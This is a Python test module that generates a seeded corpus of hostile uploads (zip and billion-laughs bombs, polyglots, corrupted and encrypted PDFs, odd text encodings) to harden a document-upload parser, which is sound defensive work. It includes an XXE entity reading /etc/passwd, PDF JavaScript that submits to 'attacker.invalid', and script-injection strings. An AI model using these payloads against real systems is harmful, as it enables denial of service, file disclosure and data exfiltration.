"""A generated corpus of malformed and hostile uploads (no file of it is stored in the repo).

Built from the real fixture letters: truncated, encrypted, scripted and bloated PDFs, zip and
XML-entity bombs disguised as .docx, polyglots, empty files, random bytes, byte-flipped copies
of real files, and real letter text in every common encoding with and without a byte order
mark. `hostile_corpus()` returns (name, bytes) pairs, at least 200 of them, the same on every
run (seeded).
"""

import io
import random
import zipfile
from pathlib import Path

import docx
from pypdf import PdfWriter
from pypdf.actions import JavaScript

LETTERS = Path(__file__).resolve().parent.parent / "fixtures" / "letters"
# Text-layer PDFs only: the image-only scan would send every damaged copy through OCR.
PDFS = [
    LETTERS / "pdf" / name for name in ("A_80_434-S_2025_632.en.pdf", "A_80_500-S_2025_656.en.pdf")
]
TEXTS = [LETTERS / "2021-02-23_Azerbaijan_mines.fr.txt", LETTERS / "A_80_434-S_2025_632.en.txt"]

ENCODINGS = [
    "utf-8",
    "utf-16-le",
    "utf-16-be",
    "utf-32-le",
    "utf-32-be",
    "latin-1",
    "cp1252",
    "iso-8859-15",
    "mac_roman",
    "cp850",
    "cp1251",
    "koi8-r",
    "shift_jis",
    "gb18030",
    "big5",
    "euc-kr",
    "utf-7",
]
BOMS = {
    "utf-8": b"\xef\xbb\xbf",
    "utf-16-le": b"\xff\xfe",
    "utf-16-be": b"\xfe\xff",
    "utf-32-le": b"\xff\xfe\x00\x00",
    "utf-32-be": b"\x00\x00\xfe\xff",
}


def _docx(paragraphs: list[str]) -> bytes:
    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rezip(data: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            target.writestr(member.filename, replace.get(member.filename, source.read(member)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _zeros_zip(member: str, megabytes: int) -> bytes:
    out = io.BytesIO()
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(member, "w", force_zip64=True) as handle,
    ):
        for _ in range(megabytes):
            handle.write(chunk)
    return out.getvalue()


def _pdf_writer(source: Path) -> PdfWriter:
    return PdfWriter(clone_from=str(source))


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
)


def hostile_corpus() -> list[tuple[str, bytes]]:
    rng = random.Random(20251129)
    corpus: list[tuple[str, bytes]] = []
    add = corpus.append

    # Empty files of every accepted type.
    for extension in ("pdf", "docx", "txt", "md"):
        add((f"empty.{extension}", b""))

    for number, pdf in enumerate(PDFS):
        data = pdf.read_bytes()
        # Truncated at fractions of the file (the cross-reference table is at the end).
        for fraction in (0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.98, 0.999):
            add((f"truncated-{number}-{fraction}.pdf", data[: int(len(data) * fraction)]))
        add((f"header-only-{number}.pdf", data[:9]))
        # Encrypted: a user password (refused) and an owner-only one (opens, with a warning).
        for user_password, kind in (("secret", "user"), ("", "owner")):
            writer = _pdf_writer(pdf)
            writer.encrypt(
                user_password=user_password, owner_password="owner-secret", algorithm="RC4-128"
            )
            add((f"encrypted-{kind}-{number}.pdf", _written(writer)))
        # JavaScript: document-level and as the open action.
        writer = _pdf_writer(pdf)
        writer.add_open_action(
            JavaScript("app.alert('pwned'); this.submitForm('http://attacker.invalid/');")
        )
        add((f"javascript-{number}.pdf", _written(writer)))
        # Byte flips in the body of a real PDF.
        for flip in range(16):
            mutated = bytearray(data)
            for _ in range(rng.randint(1, 50)):
                position = rng.randrange(len(mutated))
                mutated[position] = rng.randrange(256)
            add((f"flipped-{number}-{flip}.pdf", bytes(mutated)))
        # Polyglots: a PDF with a zip appended; a zip with a PDF header in front.
        add((f"pdf-zip-polyglot-{number}.pdf", data + _docx(["hidden"])))
        add((f"pdf-zip-polyglot-{number}.docx", data + _docx(["hidden"])))
        add((f"pdf-named-txt-{number}.txt", data))

    # 10 000 blank pages, and a page tree that lies about its count.
    writer = PdfWriter()
    for _ in range(10_000):
        writer.add_blank_page(width=595, height=842)
    add(("ten-thousand-pages.pdf", _written(writer)))
    lying = _written(PdfWriter(clone_from=str(PDFS[0]))).replace(b"/Count 2", b"/Count 99999", 1)
    add(("lying-page-count.pdf", lying))
    add(("not-a-pdf.pdf", b"GIF89a<script>alert(1)</script>%PDF-1.4"))
    add(("html-as-pdf.pdf", b"<html><script>alert(1)</script></html>"))

    # .docx: bombs, entities, external entities, renamed parts, mislabeled files.
    base = _docx(["Letter dated 1 January 2099", "A synthetic test paragraph."])
    add(("zip-bomb-total.docx", _zeros_zip("word/document.xml", 300)))
    add(("zip-bomb-ratio.docx", _zeros_zip("word/media/image1.png", 20)))
    flood = io.BytesIO()
    with zipfile.ZipFile(flood, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        for member in range(2001):
            archive.writestr(f"word/media/{member}.bin", b"")
    add(("member-flood.docx", flood.getvalue()))
    for encoding in ("utf-8", "utf-16", "utf-32", "utf-16-be"):
        add(
            (
                f"billion-laughs-{encoding}.docx",
                _rezip(base, {"word/document.xml": LAUGHS.encode(encoding)}),
            )
        )
    add(("external-entity.docx", _rezip(base, {"word/document.xml": XXE.encode()})))
    add(("entity-in-rels.docx", _rezip(base, {"_rels/.rels": LAUGHS.encode()})))
    add(("entity-in-renamed-part.docx", _rezip(base, {}, {"word/evil.dat": LAUGHS.encode()})))
    add(
        (
            "utf7-part.docx",
            _rezip(
                base,
                {
                    "word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-w:document/+AD4-'
                },
            ),
        )
    )
    add(
        (
            "no-document-xml.docx",
            _rezip(base, {}, {}).replace(b"word/document.xml", b"word/documemt.xml"),
        )
    )
    add(("corrupt-xml.docx", _rezip(base, {"word/document.xml": b"<w:document><unclosed>"})))
    add(("old-word.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)))
    add(("pdf-named-docx.docx", PDFS[0].read_bytes()))
    add(("text-named-docx.docx", TEXTS[1].read_bytes()))
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("inner.zip", _zeros_zip("x", 5))
    add(("nested-zip.docx", nested.getvalue()))
    for flip in range(20):
        mutated = bytearray(base)
        for _ in range(rng.randint(1, 30)):
            position = rng.randrange(len(mutated))
            mutated[position] = rng.randrange(256)
        add((f"flipped-{flip}.docx", bytes(mutated)))
    for fraction in (0.1, 0.5, 0.9, 0.99):
        add((f"truncated-{fraction}.docx", base[: int(len(base) * fraction)]))

    # Text: real letters in every encoding, with and without a byte order mark.
    for text_path in TEXTS:
        text = text_path.read_text(encoding="utf-8")
        stem = text_path.stem.split(".")[0][:12]
        for encoding in ENCODINGS:
            encoded = text.encode(encoding, errors="replace")
            add((f"{stem}-{encoding}.txt", encoded))
            if encoding in BOMS:
                add((f"{stem}-{encoding}-bom.txt", BOMS[encoding] + encoded))
            add((f"{stem}-{encoding}.md", encoded))
        add((f"{stem}-wrong-bom.txt", BOMS["utf-16-le"] + text.encode("utf-8")))
        add((f"{stem}-nul-bytes.txt", text.replace("\n", "\x00\n").encode("utf-8")))
        add(
            (
                f"{stem}-html.txt",
                ("<script>alert(1)</script><style>*{display:none}</style>" + text).encode(),
            )
        )
    for junk in range(20):
        extension = ("txt", "md", "pdf", "docx")[junk % 4]
        add((f"random-bytes-{junk}.{extension}", rng.randbytes(rng.randint(1, 20_000))))
    add(("control-characters.txt", bytes(range(32)) * 200))
    add(("one-long-line.txt", b"A" * 3_000_000))
    add(("over-the-size-limit.txt", b"letter text " * 2_000_000))  # 24 MB, over 20 MB
    return corpus


__all__ = ["hostile_corpus"]
